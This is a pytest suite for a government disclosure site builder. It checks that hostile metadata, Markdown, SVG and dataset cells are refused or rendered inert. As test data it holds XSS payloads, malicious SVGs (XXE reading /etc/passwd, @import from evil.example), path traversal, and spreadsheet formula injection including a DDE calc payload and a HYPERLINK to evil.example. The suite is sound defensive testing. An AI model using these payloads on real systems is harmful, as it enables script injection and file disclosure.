"""Issue 13, inert output: whatever staff type (metadata, Markdown, dataset cells, SVG) is inert in
every published file, and what cannot be made inert is refused with file, line, field and reason.

Each attack carries a canary. Refused attacks: the canary reaches no published file (pages,
feeds, sitemap, data.json, downloads, unpacked XLSX, decompressed Pagefind files, SQLite).
Attacks that are legitimate text (quotes in a title, a fenced <script>, a cell starting with =):
the page is published and the independent oracle in tests/inert_oracle.py finds nothing live.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import markdown
import openpyxl
import pandas as pd
import pytest
from disclose.approval.hashing import normalise_source
from disclose.build import build_site
from disclose.errors import DocumentError
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from tests.conftest import FIXTURE_SITE, ROOT, SiteCopy, commit_all
from tests.inert_oracle import files_holding, formula_cell, live_files, live_in_html, texts

WRITER = "writer@ceshi.example"  # not in the roster: reviewers may approve what it writes
LEDGER = "content/index-numbers.ledger"
IMG = "<img src=x onerror=alert('金丝雀{}')>"


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's), so control characters get through."""
    return json.dumps(text, ensure_ascii=False)


def doc(title: str = "关于测试事项的通知", body: str = "正文。", **fields: str) -> str:
    lines = [f"title: {q(title)}" if title else "", "category: 通知公告", "disclosure: 主动公开",
             "publisher: mzj", "created: 2026-05-20", *(f"{k}: {v}" for k, v in fields.items())]
    return "---\n" + "\n".join(x for x in lines if x) + "\n---\n\n" + body + "\n"


def number(site: SiteCopy, *paths: str) -> None:
    for path in paths:
        result = site.cli("number", path)
        assert result.returncode == 0, result.stdout + result.stderr


def approve(site: SiteCopy, *paths: str) -> None:
    for person in ("shencha", "lingdao"):
        for path in paths:
            result = site.approve(path, person, "--opinion", "同意公开。")
            assert result.returncode == 0, result.stdout + result.stderr
    commit_all(site.root, "审核记录")


def put(site: SiteCopy, text: str, path: str = "content/a/hostile.md") -> str:
    """Write a test document with an issued index number (so it is read, checked and rendered)."""
    if "MB0A12342/2026-00006" not in site.read(LEDGER):
        site.write(LEDGER, site.read(LEDGER) + f"MB0A12342/2026-00006\t2026-05-20\t{path}\n")
    site.write(path, text.replace("\ncategory:", "\nindex_no: MB0A12342/2026-00006\ncategory:", 1))
    return path


def problems_of(site: SiteCopy, path: str) -> list[str]:
    """Problems of one file, bar the missing index number of an unnumbered test document."""
    return [p for p in site.problems() if (p.startswith(path + ":") or p.startswith(path + " "))
            and "字段 index_no：" not in p]


# --- refused: metadata with markup or control characters ------------------------------------

METADATA_CASES = {
    "title": (lambda c: doc(title=IMG.format(c)), "title"),
    "doc_no": (lambda c: doc(doc_no=q(f"测民发〔2026〕1号{IMG.format(c)}")), "doc_no"),
    "summary": (lambda c: doc(summary=q(f"概述{IMG.format(c)}")), "summary"),
    "keywords": (lambda c: doc(keywords=f"[救助, {q(IMG.format(c))}]"), "keywords"),
    "attachment_title": (lambda c: doc(attachments=f"[{{path: files/table.csv, title: {q(IMG.format(c))}}}]"),
                         "attachments"),
    "title_control": (lambda c: doc(title=f"通知{c}\x1b[31m"), "title"),
    "title_bidi": (lambda c: doc(title=f"通知{c}\u202egnp.exe"), "title"),
}


@pytest.mark.parametrize("case", sorted(METADATA_CASES))
def test_metadata_with_markup_or_control_characters_is_refused(site: SiteCopy, case: str):
    make, field = METADATA_CASES[case]
    canary = f"金丝雀{case}"
    path = "content/a/hostile.md"
    put(site, make(canary))
    found = problems_of(site, path)
    assert len(found) == 1, found
    assert found[0].startswith(f"{path}:") and f"字段 {field}：" in found[0], found[0]
    assert ("尖括号" in found[0]) if "control" not in case and "bidi" not in case else ("控制字符" in found[0])


DATASET = """title: {title}
publisher: mzj
category: 通知公告
created: 2026-05-20
period: {period}
unit: 人次
source: 测试县民政局
csv: {csv}
columns:
  - {{name: town, title: {column}, type: string}}
  - {{name: a, title: 因病, type: count, unit: 人次}}
  - {{name: b, title: 因灾, type: count, unit: 人次}}
"""
ROWS = "town,a,b\n东镇,30,12\n西镇,25,11\n南镇,18,14\n"


def dataset(site: SiteCopy, title: str = "临时救助人次", period: str = "2026年上半年", column: str = "乡镇",
            csv: str = "jiuzhu.csv", rows: str = ROWS) -> str:
    site.write(LEDGER, site.read(LEDGER) + "MB0A12342/2026-00005\t2026-05-20\tdata/jiuzhu.yml\n")
    site.write("data/jiuzhu.yml", "index_no: MB0A12342/2026-00005\n" +
               DATASET.format(title=title, period=period, column=column, csv=csv))
    site.write("data/jiuzhu.csv", rows)
    return "data/jiuzhu.yml"


@pytest.mark.parametrize("field,line", [("title", 2), ("period", 6), ("columns[0].title", 10)])
def test_dataset_descriptor_with_markup_is_refused(site: SiteCopy, field: str, line: int):
    values = {"title": "临时救助人次", "period": "2026年上半年", "column": "乡镇"}
    values[field.split("[")[0].replace("columns", "column")] = q(IMG.format(field))
    path = dataset(site, **values)
    found = problems_of(site, path)
    assert found == [f"{path}:{line}: [{'meta.invalid' if field == 'title' else 'data.markup'}] 字段 {field}："
                     "含有尖括号 < 或 >（元数据只能是纯文本，不能含 HTML 标签）"
                     "（提示：删除尖括号和不可见字符；书名号请用《》，文号年份请用〔〕）"]


def test_dataset_cell_with_a_control_character_is_refused(site: SiteCopy):
    path = dataset(site, rows=ROWS.replace("西镇", "西镇\x07金丝雀"))
    assert problems_of(site, "data/jiuzhu.csv") == [
        "data/jiuzhu.csv:3: [data.markup] 字段 town：第 2 行“乡镇”的值含有控制字符 U+0007（不可见字符）"
        "（提示：删除尖括号和不可见字符；书名号请用《》，文号年份请用〔〕）"]
    assert path


@pytest.mark.parametrize("target,expected", [
    ("../../outside.csv", "csv 指定的文件“../../outside.csv”不在数据集描述文件所在的文件夹内，不能读取"),
    ("/etc/passwd", "csv 指定的文件“/etc/passwd”不在数据集描述文件所在的文件夹内，不能读取"),
    ("../content/a/files/table.csv", "不在数据集描述文件所在的文件夹内"),
    ("nowhere.csv", "csv 指定的文件“nowhere.csv”不存在"),
])
def test_dataset_file_outside_its_folder_is_a_message_not_a_traceback(site: SiteCopy, target: str, expected: str):
    site.write("../outside.csv", "金丝雀outside\n")
    path = dataset(site, csv=target)
    result = site.cli("check")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert f"{path}\n" in result.stdout and "9:1  阻止  data.source  字段 csv：" in result.stdout
    assert expected in result.stdout
    assert "金丝雀outside" not in result.stdout + result.stderr and "root:" not in result.stdout


def test_malformed_dataset_csv_is_a_message_not_a_traceback(site: SiteCopy):
    dataset(site, rows=ROWS + "北镇,1,2,3,4\n")
    result = site.cli("check")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert "5:1  阻止  data.source  字段 csv：CSV 格式错误：第 5 行有 5 个字段，与表头的列数不一致" in result.stdout


# --- refused: raw HTML slipping past the refusal, SVG with script, replaced_by 不予公开 -------

def test_indented_continuation_line_with_an_event_attribute_is_refused(site: SiteCopy):
    for n, body in enumerate(["- 列表项\n    " + IMG.format("缩进"), "段落\n\t" + IMG.format("制表"),
                              "```\n未闭合的围栏\n\n<script>alert('金丝雀')</script>"]):
        put(site, doc(body=body))
        found = problems_of(site, "content/a/hostile.md")
        assert len(found) == 1 and "[meta.raw_html] 字段 body：正文含有 HTML 标签或注释" in found[0], (n, found)
        assert found[0].startswith(f"content/a/hostile.md:{11 + (n == 2) * 2}:"), found[0]


SVG_OK = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
          'viewBox="0 0 10 10" inkscape:version="1.3"><title>示意图</title><metadata>x</metadata>'
          '<rect width="10" height="10" fill="#1f5fa8" style="stroke: url(#g)"/></svg>')
SVG_ATTACKS = {
    "script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("金丝雀")</script></svg>',
    "event": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'金丝雀\')"><rect/></svg>',
    "foreign": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div>金丝雀</div></foreignObject></svg>',
    "xhtml": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
             '<h:script>alert("金丝雀")</h:script></svg>',
    "external": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                '<use xlink:href="https://evil.example/金丝雀.svg#a"/></svg>',
    "css": '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/金丝雀.css);</style></svg>',
    "animate": '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/>'
               '<text>金丝雀</text></a></svg>',
    "entity": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
              '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;金丝雀</text></svg>',
}


@pytest.mark.parametrize("attack", sorted(SVG_ATTACKS))
@pytest.mark.parametrize("how", ["linked", "attached"])
def test_svg_with_active_content_is_refused(site: SiteCopy, attack: str, how: str):
    site.write("content/a/files/tu.svg", SVG_ATTACKS[attack])
    body, fields = ("![示意图](files/tu.svg)", {}) if how == "linked" else ("正文。", {"attachments": "[files/tu.svg]"})
    put(site, doc(body=body, **fields))
    found = problems_of(site, "content/a/hostile.md")
    assert len(found) == 1 and "SVG 文件" in found[0] and "不能发布" in found[0], found
    assert ("字段 body：" if how == "linked" else "字段 attachments：") in found[0]


@pytest.mark.parametrize("name", ["ye.html", "ye.xhtml", "ye.xml", "ye.js"])
def test_active_file_types_are_never_attachments(site: SiteCopy, name: str):
    site.write(f"content/a/files/{name}", "<script>alert('金丝雀')</script>")
    put(site, doc(attachments=f"[files/{name}]"))
    found = problems_of(site, "content/a/hostile.md")
    assert len(found) == 1 and "在浏览器中可执行脚本" in found[0] and name in found[0], found


def test_replaced_by_a_withheld_document_is_refused(site: SiteCopy):
    withheld = "MB0A12342/2026-00004"  # content/a/withheld.md, 不予公开
    site.replace("content/a/policy-old.md", "replaced_by: MB0A12342/2026-00002", f"replaced_by: {withheld}")
    assert problems_of(site, "content/a/policy-old.md") == [
        f"content/a/policy-old.md:12: [meta.replaced_by] 字段 replaced_by：替代文件 {withheld} 不予公开或已撤回，"
        "不能作为替代文件（提示：替代文件须为公开的文件；没有公开的替代文件时删除 replaced_by 一行）"]


def test_refused_build_leaves_the_previous_output_and_names_file_and_reason(site: SiteCopy, tmp_path: Path):
    out = tmp_path / "out"
    build_site(site.conf, out)
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    put(site, doc(title=IMG.format("整站")))
    result = site.cli("build", "-o", str(out))
    assert result.returncode == 1
    assert "content/a/hostile.md" in result.stdout + result.stderr and "尖括号" in result.stdout + result.stderr
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert not files_holding(out, "金丝雀整站")


# --- published and inert: an approved site full of legitimate but hostile-looking text -------

HOSTILE_BODY = """第一段：引号 "金丝雀引号" onfocus="alert(1)" 和 javascript:alert('金丝雀J')。

```
<script>alert('金丝雀围栏')</script>
```

```

<script>alert('金丝雀空行围栏')</script>

```

写成 \\<script>alert('金丝雀转义')\\</script> 的文字，和 `<img src=x onerror=alert('金丝雀代码')>`。

![示意图](files/tu.svg)

[附表](files/fu.csv)
"""
HOSTILE_ROWS = ('town,a,b\n"=HYPERLINK(""http://evil.example/?金丝雀H"",""点击"")",30,12\n+金丝雀P,25,11\n'
                '-金丝雀M,18,14\n@金丝雀A,20,10\n"\t=1+金丝雀T",22,9\n')


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[SiteCopy, Path, str]:
    """The fixture site plus an approved document, dataset and abolished document whose every
    field is hostile-looking but legitimate text, built for real (gate, search indexes)."""
    from tests.conftest import signed_copy

    root = tmp_path_factory.mktemp("inert") / "site"
    site = signed_copy(root)  # committed, policy signed, later commits signed by the staff member
    quote = "x\" onfocus=\"alert('金丝雀Q')"
    site.write("content/a/files/tu.svg", SVG_OK)
    site.write("content/a/files/fu.csv", "项目,金额\n合计,2\n")  # staff's bytes: published as approved
    site.write("content/a/hostile.md", doc(
        title=f"关于“{quote}”的通知", body=HOSTILE_BODY, doc_no=q(f"测民发〔2026〕9号{quote}"),
        summary=q(f"概述 {quote} &lt;script&gt;alert('金丝雀实体')&lt;/script&gt; javascript:alert(1)"),
        keywords=q(f"javascript:alert('金丝雀K'), {quote}"),
        attachments=f"[{{path: files/fu.csv, title: {q(quote)}}}]"))
    site.write("data/jiuzhu.yml", DATASET.format(title=q(f"数据{quote}"), period=q(quote),
                                                 column=q(f"=乡镇{quote}"), csv="jiuzhu.csv"))
    site.write("data/jiuzhu.csv", HOSTILE_ROWS)
    # An abolished document whose replacement waits for approval: its number must stay private.
    site.write("content/a/new-rule.md", doc(title="新办法（待审）", body="金丝雀待审正文。"))
    site.write("content/a/old-rule.md", doc(title="旧办法", status="废止", abolished="2026-05-25"))
    number(site, "content/a/hostile.md", "data/jiuzhu.yml", "content/a/new-rule.md", "content/a/old-rule.md")
    pending = site.read("content/a/new-rule.md").split("index_no: ", 1)[1].split("\n", 1)[0]
    site.replace("content/a/old-rule.md", "abolished: 2026-05-25", f"abolished: 2026-05-25\nreplaced_by: {pending}")
    commit_all(root, "新增文档", email=WRITER)
    approve(site, "content/a/hostile.md", "data/jiuzhu.yml", "content/a/old-rule.md")
    out = root / "output"
    result = site.cli("build", "-o", str(out))
    assert result.returncode == 0, result.stdout + result.stderr
    return site, out, pending


def test_hostile_site_is_published(hostile):
    site, out, _ = hostile
    pages = [p.read_text() for p in (out / "xxgk").rglob("*.html")]
    assert any("金丝雀Q" in p and "金丝雀围栏" in p for p in pages), "the hostile document was not published"
    assert any("金丝雀H" in p for p in pages), "the hostile dataset was not published"
    assert list((out / "files").rglob("data.xlsx")) and list((out / "files").rglob("tu.svg"))


def test_nothing_live_in_any_published_file(hostile):
    _, out, _ = hostile
    assert live_files(out) == {}
    # Positive controls: the oracle sees what it must refuse.
    assert live_in_html('<p title="x" onfocus="alert(1)">') and live_in_html("<a href=' jav\tascript:x'>")
    assert live_in_html("<script>x</script>") and not live_in_html('<script src="/theme/js/a11y.js"></script>')


def test_quotes_in_metadata_stay_inside_their_attribute(hostile):
    _, out, _ = hostile
    page = next(p.read_text() for p in (out / "xxgk").rglob("*.html") if "金丝雀围栏" in p.read_text())
    assert 'content="关于“x&#34; onfocus=&#34;alert(&#39;金丝雀Q&#39;)”的通知"' in page
    assert "<title>关于“x&#34; onfocus=&#34;alert(&#39;金丝雀Q&#39;)”的通知 - " in page


def test_fenced_and_escaped_script_are_text(hostile):
    _, out, _ = hostile
    page = next(p.read_text() for p in (out / "xxgk").rglob("*.html") if "金丝雀围栏" in p.read_text())
    for name in ("围栏", "空行围栏", "转义", "代码"):
        assert f"金丝雀{name}" in page
    assert "&lt;script&gt;alert(&#39;金丝雀围栏&#39;)&lt;/script&gt;" in page.replace("'", "&#39;")
    assert "&lt;script&gt;alert(&#39;金丝雀转义&#39;)&lt;/script&gt;" in page.replace("'", "&#39;")


def test_linked_svg_is_published_cleaned(hostile):
    _, out, _ = hostile
    svg = next((out / "files").rglob("tu.svg")).read_text()
    assert "<rect" in svg and "inkscape" not in svg and "metadata" not in svg
    assert live_in_html(svg) == []


def test_downloads_hold_no_formula_and_open_in_openpyxl_and_pandas(hostile):
    _, out, _ = hostile
    folder = next((out / "files").rglob("data.xlsx")).parent
    expected = ['\'=HYPERLINK("http://evil.example/?金丝雀H","点击")', "'+金丝雀P", "'-金丝雀M", "'@金丝雀A",
                "'\t=1+金丝雀T"]
    frame = pd.read_csv(folder / "data.csv", encoding="utf-8-sig", dtype=str)
    assert list(frame["town"]) == expected and list(frame.columns)[0] == "town"
    book = openpyxl.load_workbook(folder / "data.xlsx")
    ws = book["数据"]
    assert ws["A1"].value == "'=乡镇x\" onfocus=\"alert('金丝雀Q')"
    assert [ws.cell(r, 1).value for r in range(2, 7)] == expected
    assert all(ws.cell(r, 1).data_type == "s" for r in range(1, 7))
    assert [ws.cell(r, 2).value for r in range(2, 7)] == [30, 25, 18, 20, 22]  # numbers stay numbers
    sheet = pd.read_excel(folder / "data.xlsx", sheet_name=None, dtype=object)
    cells = [v for df in sheet.values() for v in [*df.columns, *df.to_numpy().ravel()]]
    assert not [v for v in cells if formula_cell(v)]
    assert "金丝雀H" in "".join(map(str, cells))  # positive control: the canary is there, as text


def test_unpublished_replacement_number_appears_nowhere(hostile):
    _, out, pending = hostile
    old = next(p.read_text() for p in (out / "xxgk").rglob("*.html") if "旧办法" in p.read_text())
    assert "本文件已废止" in old and "现行文件" not in old
    assert files_holding(out, pending) == [] and files_holding(out, "金丝雀待审") == []


# --- hashing: no normalisation drops a byte that changes the output ---------------------------

VARIANTS = [b"a  \nb\n", b"a \nb\n", b"a\t\nb\n", "a\u3000\nb\n".encode(), b"a\nb\n", b"a\r\nb\r\n",
            b"\xef\xbb\xbfa\nb\n", b"a\nb\n\n\n", b"a\rb\r", b"```\nx  \n```\n", b"```\nx\n```\n",
            b"    code  \n", b"    code\n", b"- a  \n  b\n", b"- a\n  b\n"]


def test_normalisation_keeps_every_byte_that_changes_the_output():
    """Oracle: Python-Markdown itself. Two sources that render differently must hash differently."""
    md = markdown.Markdown(extensions=["tables", "fenced_code", "footnotes"])

    def render(raw: bytes) -> str:
        md.reset()
        return md.convert(raw.decode("utf-8-sig"))

    for x in VARIANTS:
        for y in VARIANTS:
            if render(x) != render(y):
                assert normalise_source(x) != normalise_source(y), (x, y)
    assert normalise_source(b"a\r\nb\r\n") == normalise_source(b"\xef\xbb\xbfa\nb\n\n")  # still normalised


def test_trailing_double_space_voids_the_approval(hostile, tmp_path: Path):
    """Two spaces at the end of an approved line add a <br>: the approval no longer counts."""
    site, approved_out, _ = hostile
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(site.root), str(clone)], check=True)
    copy = SiteCopy(clone)
    line = "和 javascript:alert('金丝雀J')。\n"
    copy.replace("content/a/hostile.md", line, line[:-1] + "  \n")
    commit_all(clone, "行尾加两个空格", email=WRITER)
    out = tmp_path / "out"
    result = build_site(copy.conf, out)
    assert "content/a/hostile.md" in {p for p, _, _ in result.held_back}
    changed = [rel for rel, text in texts(out) if "金丝雀J')。<br" in text or "金丝雀J&#39;)。<br" in text]
    assert changed == []
    for page in (approved_out / "xxgk").rglob("*.html"):  # if a version stays live, it is the approved one
        twin = out / page.relative_to(approved_out)
        if "金丝雀J" in page.read_text() and twin.exists():
            assert twin.read_text() == page.read_text()


# --- stale build folders ------------------------------------------------------------------------

def test_stale_build_folders_of_dead_builds_are_removed(site: SiteCopy, tmp_path: Path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    pid = int(dead.stdout)  # that process has exited: its id names a dead build
    stale = tmp_path / f".out.building-{pid}"
    (stale / "xxgk").mkdir(parents=True)
    (stale / "xxgk" / "draft.html").write_text("金丝雀残留")
    old = tmp_path / f".out.old-{pid}"
    old.mkdir()
    live = tmp_path / f".out.building-{os.getppid()}"  # a running process: maybe a build in progress
    live.mkdir()
    build_site(site.conf, tmp_path / "out")
    assert not stale.exists() and not old.exists() and live.exists()
    assert not [p for p in tmp_path.rglob("*") if p.is_file() and "金丝雀残留" in p.read_text(errors="replace")]


# --- property: every field and cell hostile ----------------------------------------------------

SAFE_HOSTILE = ['"', "'", '" onfocus="alert(1)', "' onmouseover='alert(2)", "javascript:alert(3)",
                "JaVaScRiPt:alert(4)", "&lt;script&gt;", "&#106;avascript:x", "=HYPERLINK(\"http://e.example\")",
                "+1", "-2", "@SUM(A1)", "=cmd|' /C calc'!A0", "{{ 7*7 }}", "{% raw %}", "]]&gt;", "&amp;", "中文",
                "－１", "＝1"]
REFUSED = ["]]>", "<script>alert(5)</script>", "<img src=x onerror=alert(6)>", "</title>", "\x07", "\u202e",
           "\x1b[31m", "<svg onload=alert(7)>"]
BODY_SAFE = ["```\n<script>alert(8)</script>\n```", "\\<script>alert(9)\\</script>", "`<b onclick=x>`",
             "<https://example.gov.cn/?a=1&b=2>", "[链接](https://example.gov.cn/\"onmouseover=\"x)", "**粗体**",
             "| a | b |\n| --- | --- |\n| \" | =1 |", "&lt;iframe&gt;"]
BODY_REFUSED = ["<script>alert(10)</script>", "- 项\n    <img src=x onerror=alert(11)>", "[x](javascript:alert(12))",
                "<!-- 注释 -->", "<a href=x onclick=y>a</a>"]


def _value(safe: bool) -> st.SearchStrategy[str]:
    pool = SAFE_HOSTILE if safe else SAFE_HOSTILE + REFUSED
    return st.lists(st.sampled_from(pool), min_size=1, max_size=3).map("".join)


@st.composite
def hostile_site(draw: st.DrawFn) -> tuple[bool, dict[str, str]]:
    safe = draw(st.booleans())
    v = lambda: _value(safe)  # noqa: E731
    body_pool = BODY_SAFE if safe else BODY_SAFE + BODY_REFUSED
    body = "\n\n".join(draw(st.lists(st.sampled_from(body_pool), min_size=1, max_size=3)))
    fields = {"doc_no": q(draw(v())), "summary": q(draw(v())), "keywords": q(draw(v())),
              "attachments": f"[{{path: files/table.csv, title: {q(draw(v()))}}}]",
              "index_no": "MB0A12342/2026-00006"}
    files = {"content/a/hostile.md": doc(title=draw(v()), body=body, **fields)}
    cells = draw(st.lists(v(), min_size=3, max_size=3, unique=True))
    files["data/jiuzhu.yml"] = "index_no: MB0A12342/2026-00005\n" + DATASET.format(
        title=q(draw(v())), period=q(draw(v())), column=q(draw(v())), csv="jiuzhu.csv")
    buf = io.StringIO()
    import csv as csvlib

    w = csvlib.writer(buf)
    w.writerows([["town", "a", "b"], *[[c, 10 + i, 20 + i] for i, c in enumerate(cells)]])
    files["data/jiuzhu.csv"] = buf.getvalue()
    return safe, files


@settings(max_examples=int(os.environ.get("INERT_EXAMPLES", "10")), deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(case=hostile_site())
def test_property_hostile_fields_and_cells_are_inert_or_refused(case, tmp_path_factory: pytest.TempPathFactory):
    """Every metadata field, body and dataset cell hostile. Plain-text hostility (quotes, event
    attributes without tags, javascript:, formula prefixes) is published and inert; markup and
    control characters are refused with file and field, and nothing is written."""
    safe, files = case
    root = tmp_path_factory.mktemp("prop") / "site"
    shutil.copytree(FIXTURE_SITE, root)
    site = SiteCopy(root)
    # Search indexes are covered by the canary tests; here they would only make each example slow.
    site.replace("pelicanconf.py", "DISCLOSE = {", 'DISCLOSE = {\n    "search": {"enabled": False},')
    ledger = site.read(LEDGER) + ("MB0A12342/2026-00005\t2026-05-20\tdata/jiuzhu.yml\n"
                                  "MB0A12342/2026-00006\t2026-05-20\tcontent/a/hostile.md\n")
    site.write(LEDGER, ledger)
    for rel, text in files.items():
        site.write(rel, text)
    out = root / "preview"
    try:  # the staff preview publishes without approvals: same templates, renderer and downloads
        build_site(site.conf, out, {"DISCLOSE_PREVIEW": True})
    except DocumentError as exc:
        event("refused")
        assert not safe, [str(p) for p in exc.problems]
        assert not out.exists()
        for p in exc.problems:
            assert p.path in files and p.field, str(p)
            assert any(k in p.message for k in ("尖括号", "控制字符", "HTML 标签", "不允许的链接")), str(p)
        return
    event("published")
    assert live_files(out) == {}
    assert (out / "xxgk/MB0A12342/2026-00006.html").is_file()
    assert (out / "files/MB0A12342/2026-00005/data.xlsx").is_file()


# --- every template, with hostile configuration and content ------------------------------------

HOSTILE_CONFIG = "<script>alert('金丝雀配置')</script>\" onfocus=\"alert(1)"


def test_every_template_escapes_hostile_values(site: SiteCopy, tmp_path: Path):
    """Configuration is not checked for markup (administrators write it), so it tests the
    autoescaping itself: every template of the theme is rendered and nothing in it is live."""
    conf = site.read("pelicanconf.py")
    for key in ('"name": "测试县政府信息公开"', '"host_org": "测试县人民政府办公室"', '"address": "测试县人民路 1 号"',
                '"icp": "测ICP备00000001号"', '"name": "测试县财政局"'):
        conf = conf.replace(key, key.split(":")[0] + f": {q(HOSTILE_CONFIG)}")
    conf = conf.replace('"page_size": 2,', f'"page_size": 2, "how_to_apply": {q(HOSTILE_CONFIG)}, '
                        f'"opendata": {{"contact_name": {q(HOSTILE_CONFIG)}}},')
    conf = conf.replace('"site": {', f'"site": {{"undertaker": {q(HOSTILE_CONFIG)}, ', 1)
    site.write("pelicanconf.py", conf)
    (site.root / "content/pages/zhinan.md").rename(site.root / "content/pages/guanyu.md")
    site.replace("content/pages/guanyu.md", "slug: zhinan", "slug: guanyu")
    put(site, doc(title="关于\"x\" onmouseover=\"alert('金丝雀标题')\"的通知", body="正文。"))
    dataset(site, title=q("数据\"onfocus=\"x"), column=q("=乡镇'onclick='y"))
    out = tmp_path / "preview"
    build_site(site.conf, out, {"DISCLOSE_PREVIEW": True})
    written = {"index.html": "index", "mulu/index.html": "catalogue_overview", "mulu/quanbu/index.html": "catalogue",
               "zhinan.html": "guide", "shenqing.html": "apply", "search.html": "search", "404.html": "404",
               "guanyu.html": "page", "shuju/index.html": "opendata", "xxgk/MB0A12342/2026-00006.html": "document",
               "xxgk/MB0A12342/2026-00005.html": "dataset", "xxgk/MB0A12342/2026-00003.html": "document",
               "jiancha.html": "inspection"}
    for rel in written:
        assert "金丝雀配置" in (out / rel).read_text(), rel  # the hostile value is on the page, as text
    templates = {p.stem for p in (ROOT / "theme/templates").glob("[!_]*.html")}
    # withdrawn.html is rendered in tests/test_approval.py::test_withdrawing_a_sample_document;
    # base, _docmeta and _macros are part of every page above.
    assert templates - set(written.values()) == {"withdrawn", "base"}
    assert live_files(out) == {}
